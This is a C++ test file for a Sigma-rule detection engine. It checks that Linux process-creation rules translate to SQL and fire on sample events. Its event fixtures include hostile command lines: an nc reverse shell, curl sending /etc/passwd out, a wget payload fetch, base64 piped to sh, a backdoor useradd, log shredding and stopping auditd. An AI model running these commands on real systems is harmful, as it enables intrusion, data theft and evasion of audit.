// The Sigma corpus (issue 18): every SigmaHQ rule for Linux process creation
// (testdata/sigma, a byte-for-byte copy of ../shared/testdata/sigma kept in
// the tree so a clean clone runs it) is converted; at least 95% translate,
// every refusal is on the expected list below with its construct and reason,
// every translated query passes the sandbox (SQLite's compiler against the
// real schema), and over the events of cases.yaml each rule's SQL and the C++
// evaluator find the same processes, which are the ones cases.yaml says; and
// through a real query worker, every rule gives the same rows with the
// Sigma prefilter as without it (decisions.md #70).
#include <yaml-cpp/yaml.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>

#include "sentinel/base/strings.h"
#include "sentinel/detection/query_worker.h"
#include "sentinel/detection/rule_runner.h"
#include "sentinel/detection/sigma.h"
#include "sentinel/detection/sigma_prefilter.h"
#include "sentinel/detection/sigma_test_util.h"
#include "sentinel/storage/store.h"
#include "sentinel/testing/temp_dir.h"

namespace sentinel::detection {
namespace {

namespace fs = std::filesystem;
using sigma_testing::Exec;

constexpr const char* kCorpus = SENTINEL_SOURCE_DIR "/testdata/sigma";
constexpr std::size_t kCorpusFiles = 144;

// Files refused on purpose: path under linux-process-creation/ -> the start
// of the refusal after "<path>: " (construct and reason). Every construct the
// corpus uses is supported, so the list is empty; a regression that refuses a
// file fails the test and names it.
const std::map<std::string, std::string>& ExpectedRefusals() {
  static const std::map<std::string, std::string> m = {};
  return m;
}

std::string ReadText(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

std::vector<fs::path> CorpusFiles() {
  std::vector<fs::path> out;
  for (const auto& e : fs::recursive_directory_iterator(fs::path(kCorpus) / "linux-process-creation")) {
    if (e.is_regular_file() && e.path().extension() == ".yml") out.push_back(e.path());
  }
  std::sort(out.begin(), out.end());
  return out;
}

struct Converted {
  std::string relative;  // under linux-process-creation/
  SigmaRule sigma;
  Rule rule;
};

struct Corpus {
  std::vector<Converted> rules;
  std::map<std::string, std::string> refused;  // relative path -> construct and reason
};

Corpus ConvertAll() {
  Corpus c;
  const fs::path base = fs::path(kCorpus) / "linux-process-creation";
  for (const auto& f : CorpusFiles()) {
    const std::string rel = fs::relative(f, base).string();
    auto parsed = ParseSigmaRule(ReadText(f), rel);
    if (!parsed.ok()) {
      c.refused[rel] = parsed.status().message().substr(rel.size() + 2);
      continue;
    }
    Rule rule = SigmaToRule(*parsed, rel);
    c.rules.push_back({rel, std::move(*parsed), std::move(rule)});
  }
  return c;
}

TEST(SigmaCorpusTest, AtLeast95PercentTranslateAndEveryRefusalIsExpected) {
  const Corpus c = ConvertAll();
  const std::size_t total = c.rules.size() + c.refused.size();
  ASSERT_EQ(total, kCorpusFiles) << "testdata/sigma/linux-process-creation should hold the 144 corpus files";
  for (const auto& [file, why] : c.refused) std::cout << "refused: " << file << ": " << why << "\n";
  std::cout << c.rules.size() << " of " << total << " Sigma files translate ("
            << (100.0 * static_cast<double>(c.rules.size()) / static_cast<double>(total)) << "%)\n";
  EXPECT_GE(c.rules.size() * 100, total * 95);
  for (const auto& [file, why] : c.refused) {
    auto it = ExpectedRefusals().find(file);
    if (it == ExpectedRefusals().end()) {
      ADD_FAILURE() << "unexpected refusal: " << file << ": " << why;
    } else {
      EXPECT_EQ(why.substr(0, it->second.size()), it->second) << file;
    }
  }
  for (const auto& [file, why] : ExpectedRefusals()) {
    EXPECT_TRUE(c.refused.count(file))
        << file << " was expected to be refused (" << why << ") but translated";
  }
}

TEST(SigmaCorpusTest, EveryTranslatedQueryPassesTheSandbox) {
  const Corpus c = ConvertAll();
  auto schema = OpenSchemaOnlyEventStore();
  ASSERT_TRUE(schema.ok()) << schema.status().message();
  std::set<std::string> ids;
  for (const auto& r : c.rules) {
    Status s = ValidateRuleQuery(**schema, r.rule);
    EXPECT_TRUE(s.ok()) << r.relative << ": " << s.message();
    EXPECT_TRUE(ids.insert(r.rule.id).second) << r.relative << ": duplicate id " << r.rule.id;
    // The native YAML reads back as the same rule (what convert --output writes).
    auto back = ParseRule(RuleToYaml(r.rule), r.relative);
    ASSERT_TRUE(back.ok()) << back.status().message();
    EXPECT_EQ(back->Checksum(), r.rule.Checksum()) << r.relative;
    EXPECT_EQ(back->author, r.rule.author) << r.relative;
  }
}

// cases.yaml: the processes each of its 10 rules must and must not match.
struct Case {
  std::string rule_file;                     // under linux-process-creation/
  std::vector<std::pair<Exec, bool>> execs;  // exec, must match
};

std::optional<std::string> Opt(const YAML::Node& n, const char* key) {
  if (!n[key] || n[key].IsNull()) return std::nullopt;
  return n[key].as<std::string>();
}

std::vector<Case> LoadCases(int64_t* next_pid) {
  std::vector<Case> out;
  const YAML::Node doc = YAML::LoadFile(std::string(kCorpus) + "/cases.yaml");
  for (const auto& c : doc["cases"]) {
    Case k;
    k.rule_file = c["rule_file"].as<std::string>().substr(std::string("linux-process-creation/").size());
    for (const char* kind : {"match", "nomatch"}) {
      for (const auto& e : c[kind]) {
        Exec x;
        x.pid = (*next_pid)++;
        x.image = Opt(e, "image");
        x.command_line = Opt(e, "command_line");
        x.parent_image = Opt(e, "parent_image");
        x.parent_command_line = Opt(e, "parent_command_line");
        x.user = Opt(e, "user");
        x.cwd = Opt(e, "cwd");
        x.login_uid = e["logon_id"] ? std::optional<int64_t>(e["logon_id"].as<int64_t>()) : std::nullopt;
        k.execs.emplace_back(std::move(x), std::string(kind) == "match");
      }
    }
    out.push_back(std::move(k));
  }
  return out;
}

// Events that exercise the common corpus terms beyond cases.yaml's.
std::vector<Exec> ExtraEvents(int64_t* next_pid) {
  const std::vector<std::pair<std::string, std::string>> images_and_args = {
      {"/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444"},
      {"/usr/bin/curl", "curl -F file=@/etc/passwd http://x"},
      {"/usr/bin/wget", "wget -O /tmp/x http://1.2.3.4/a.tar"},
      {"/usr/bin/base64", "base64 -d payload | sh"},
      {"/usr/bin/chmod", "chmod +x /tmp/evil"},
      {"/usr/bin/crontab", "crontab -r"},
      {"/usr/bin/python3", "python3 -c import pty;pty.spawn('/bin/sh')"},
      {"/usr/bin/ls", "ls -lid /"},
      {"/usr/bin/find", "find / -perm -4000 -type f"},
      {"/usr/sbin/useradd", "useradd -M -N backdoor"},
      {"/usr/bin/openssl", "openssl s_client -connect 10.1.2.3:443"},
      {"/usr/bin/SHRED", "SHRED -U /VAR/LOG/AUTH.LOG"},
      {"/usr/bin/npm", "npm install @ctrl/tinycolor@4.1.1"},
      {"/usr/bin/node", "node setup_bun.js"},
      {"/usr/bin/systemctl", "systemctl stop auditd"},
  };
  std::vector<Exec> out;
  for (const auto& [image, args] : images_and_args) {
    Exec e;
    e.pid = (*next_pid)++;
    e.image = image;
    e.command_line = args;
    e.parent_image = "/usr/bin/bash";
    e.parent_command_line = "-bash";
    out.push_back(e);
    Exec bare = e;  // the same with the parent and cwd unknown (NULL)
    bare.pid = (*next_pid)++;
    bare.parent_image.reset();
    bare.parent_command_line.reset();
    bare.cwd.reset();
    out.push_back(bare);
  }
  return out;
}

TEST(SigmaCorpusTest, SqlAndEvaluatorAgreeAndCasesBehaveAsWritten) {
  const Corpus c = ConvertAll();
  int64_t next_pid = 100;
  const std::vector<Case> cases = LoadCases(&next_pid);
  ASSERT_EQ(cases.size(), 10u);
  std::vector<Exec> events = ExtraEvents(&next_pid);
  std::size_t case_execs = 0;
  for (const auto& k : cases) {
    for (const auto& [e, must] : k.execs) events.push_back(e);
    case_execs += k.execs.size();
  }
  EXPECT_EQ(case_execs, 45u);
  sigma_testing::ExecTable table;
  table.Insert(events);
  std::size_t firing = 0;
  for (const auto& r : c.rules) {
    const std::set<int64_t> sql = table.SqlMatches(r.rule);
    EXPECT_EQ(sql, sigma_testing::EvalMatches(r.sigma, events)) << r.relative << "\n" << r.rule.query;
    firing += sql.empty() ? 0 : 1;
    for (const auto& k : cases) {
      if (k.rule_file != r.relative) continue;
      for (const auto& [e, must] : k.execs) {
        EXPECT_EQ(sql.count(e.pid) == 1, must)
            << r.relative << ": " << (must ? "must match: " : "must not match: ")
            << e.command_line.value_or("");
      }
    }
  }
  // The events reach well beyond the 10 case rules.
  EXPECT_GE(firing, 20u);
}

// ------------------------------------------------- the worker's prefilter

std::optional<std::vector<std::string>> Argv(const std::optional<std::string>& text) {
  if (!text) return std::nullopt;
  return Split(*text, ' ');
}

models::ProcessEvent ToProcessEvent(const Exec& e) {
  models::ProcessEvent p;
  p.event_time_ms = 1'700'000'000'000 + e.pid;
  p.event_type = "exec";
  p.pid = e.pid;
  p.ppid = e.ppid;
  p.name = e.image ? e.image->substr(e.image->rfind('/') + 1) : "x";
  p.exe_path = e.image;
  p.command_line = Argv(e.command_line);
  p.parent_exe_path = e.parent_image;
  p.parent_command_line = Argv(e.parent_command_line);
  p.user_name = e.user;
  p.user_id = 1000;
  p.cwd = e.cwd;
  p.login_uid = e.login_uid;
  p.start_time_ms = p.event_time_ms;
  return p;
}

// Every corpus rule run by a real query worker over batches of real
// process_events rows, once with its Sigma detection (the prefilter) and
// once without: the same columns and rows, batch after batch, also for a
// batch with no match, one whose values the prefilter cannot read (a NUL),
// and values SQLite decodes as characters the bytes do not show.
TEST(SigmaCorpusTest, WorkerPrefilterLeavesFindingsUnchanged) {
  const Corpus c = ConvertAll();
  std::size_t prefiltered = 0;
  for (const auto& r : c.rules) prefiltered += r.rule.sigma_detection ? 1 : 0;
  EXPECT_EQ(prefiltered, c.rules.size()) << "every corpus pattern is ASCII";

  testing::TempDir dir;
  const std::string path = dir.File("events.db");
  auto store = storage::EventStore::Open({path, storage::OpenMode::kReadWrite, 5000});
  ASSERT_TRUE(store.ok()) << store.status().ToString();
  int64_t next_pid = 100;
  std::vector<Exec> execs = ExtraEvents(&next_pid);
  for (const auto& k : LoadCases(&next_pid)) {
    for (const auto& [e, must] : k.execs) execs.push_back(e);
  }
  std::vector<models::ProcessEvent> batch1;
  for (const auto& e : execs) batch1.push_back(ToProcessEvent(e));
  ASSERT_TRUE((*store)->WriteEvents(batch1).ok());
  const int64_t end1 = (*store)->db().QueryInt("SELECT max(id) FROM process_events")->value_or(0);
  // Batch 2: benign only.
  std::vector<models::ProcessEvent> batch2;
  for (const char* args : {"ls -la /home/alice", "cat notes.txt", "git status"}) {
    Exec e;
    e.pid = next_pid++;
    e.command_line = args;
    e.image = "/usr/bin/" + std::string(args).substr(0, std::string(args).find(' '));
    batch2.push_back(ToProcessEvent(e));
  }
  ASSERT_TRUE((*store)->WriteEvents(batch2).ok());
  const int64_t end2 = (*store)->db().QueryInt("SELECT max(id) FROM process_events")->value_or(0);
  // Batch 3: a matching command line with a NUL after the match, and
  // stray continuation bytes where a pattern has `?`.
  std::vector<models::ProcessEvent> batch3;
  {
    Exec e;
    e.pid = next_pid++;
    e.image = "/usr/bin/nc";
    e.command_line = std::string("nc -e /bin/sh 10.0.0.1 4444 \0x", 30);
    batch3.push_back(ToProcessEvent(e));
    e.pid = next_pid++;
    e.command_line = "nc -e /bin/\x80\x80sh 10.0.0.1 \xE0\x83\xA9 4444";
    batch3.push_back(ToProcessEvent(e));
  }
  ASSERT_TRUE((*store)->WriteEvents(batch3).ok());
  const int64_t end3 = (*store)->db().QueryInt("SELECT max(id) FROM process_events")->value_or(0);

  WorkerSetup setup;
  setup.database_path = path;
  setup.rule_snapshot = true;
  auto worker = QueryWorker::Start(setup);
  ASSERT_TRUE(worker.ok()) << worker.status().ToString();
  std::vector<std::size_t> firing;
  for (const auto& [from, to] :
       std::vector<std::pair<int64_t, int64_t>>{{0, end1}, {end1, end2}, {end2, end3}}) {
    auto loaded = (*worker)->LoadExecBatch(from, to, std::nullopt, 10'000);
    ASSERT_TRUE(loaded.ok()) << loaded.status().ToString();
    std::size_t fired = 0;
    for (const auto& r : c.rules) {
      auto with = (*worker)->RunRule(r.rule, RunParams{}, RunLimits{});
      Rule plain = r.rule;
      plain.sigma_detection.reset();
      auto without = (*worker)->RunRule(plain, RunParams{}, RunLimits{});
      ASSERT_TRUE(with.ok()) << r.relative << ": " << with.status().ToString();
      ASSERT_TRUE(without.ok()) << r.relative << ": " << without.status().ToString();
      EXPECT_EQ(with->columns, without->columns) << r.relative;
      EXPECT_EQ(with->rows, without->rows) << r.relative << " over ids (" << from << ", " << to << "]";
      fired += without->rows.empty() ? 0 : 1;
    }
    firing.push_back(fired);
  }
  EXPECT_GE(firing[0], 20u);
  EXPECT_EQ(firing[1], 0u);
  EXPECT_GE(firing[2], 1u);
}

TEST(SigmaPrefilterTest, NonAsciiPatternsRunTheirSqlAlways) {
  auto ascii = ParseSigmaRule(
      "title: t\nid: 6c3f1a52-0000-4000-8000-000000000001\nlogsource: {product: linux, category: "
      "process_creation}\n"
      "detection:\n  sel:\n    CommandLine|contains: 'abc'\n  condition: sel\n",
      "t.yml");
  ASSERT_TRUE(ascii.ok()) << ascii.status().message();
  EXPECT_TRUE(SigmaToRule(*ascii, "t.yml").sigma_detection);
  auto wide = ParseSigmaRule(
      "title: t\nid: 6c3f1a52-0000-4000-8000-000000000002\nlogsource: {product: linux, category: "
      "process_creation}\n"
      "detection:\n  sel:\n    CommandLine|contains: 'caf\xC3\xA9'\n  condition: sel\n",
      "t.yml");
  ASSERT_TRUE(wide.ok()) << wide.status().message();
  EXPECT_FALSE(SigmaToRule(*wide, "t.yml").sigma_detection);
  // The encoded tree reads back as the same detection.
  std::string bytes;
  EncodeSigmaExpr(ascii->detection, &bytes);
  auto back = DecodeSigmaExpr(bytes);
  ASSERT_TRUE(back.ok()) << back.status().message();
  std::string again;
  EncodeSigmaExpr(*back, &again);
  EXPECT_EQ(again, bytes);
  EXPECT_FALSE(DecodeSigmaExpr(bytes.substr(0, bytes.size() - 1)).ok());
  EXPECT_FALSE(DecodeSigmaExpr(bytes + "x").ok());
}

}  // namespace
}  // namespace sentinel::detection

// The query worker re-executes this binary (query_worker.h).
int main(int argc, char** argv) {
  if (auto worker = sentinel::detection::RunQueryWorkerIfRequested(argc, argv)) return *worker;
  ::testing::InitGoogleTest(&argc, argv);
  return RUN_ALL_TESTS();
}
